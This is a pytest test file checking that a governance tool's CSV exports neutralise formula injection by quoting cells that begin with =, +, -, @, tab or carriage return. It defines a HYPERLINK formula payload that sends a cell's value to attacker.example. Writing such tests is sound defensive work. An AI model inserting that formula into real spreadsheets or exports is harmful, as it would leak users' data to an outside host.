"""CSV formula injection: a name beginning with = + - @ tab or carriage return reaches no
spreadsheet as a formula, in any CSV govern writes (OWASP: prefix the cell with a quote)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from govern.cli import cli
from govern.store import Store
from govern.virality.formats import to_csv
from govern.virality.report import Report
from tests.policy.conftest import team, write_inventory
from tests.virality.conftest import org_store, report  # noqa: F401 - fixtures

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://attacker.example/?x="&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_inventory_csv_neutralises_a_formula_in_a_name(
    prefix: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = prefix + PAYLOAD
    url = f"sqlite:///{tmp_path / 'inventory.db'}"
    write_inventory(url)
    store = Store(url)
    with store.snapshot("m365", "contoso", log=lambda m: None) as w:
        w.community(team("hostile", name, sensitivity_label=name))  # the label column
    store.dispose()
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        cli, ["inventory", "list", "--format", "csv"], env={"GOVERN_STORE_URL": url}
    )
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert "'" + name in cells
    assert not any(c.startswith(tuple(PREFIXES)) for c in cells)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_shadow_it_csv_neutralises_a_formula_in_a_name(prefix: str, report: Report) -> None:  # noqa: F811
    name = prefix + PAYLOAD
    first = report.entries[0].model_copy(update={"name": name, "path": name})
    hostile = report.model_copy(update={"entries": [first, *report.entries[1:]]})
    cells = _cells(to_csv(hostile))
    assert cells.count("'" + name) == 2
    assert not any(c.startswith(tuple(PREFIXES)) for c in cells)
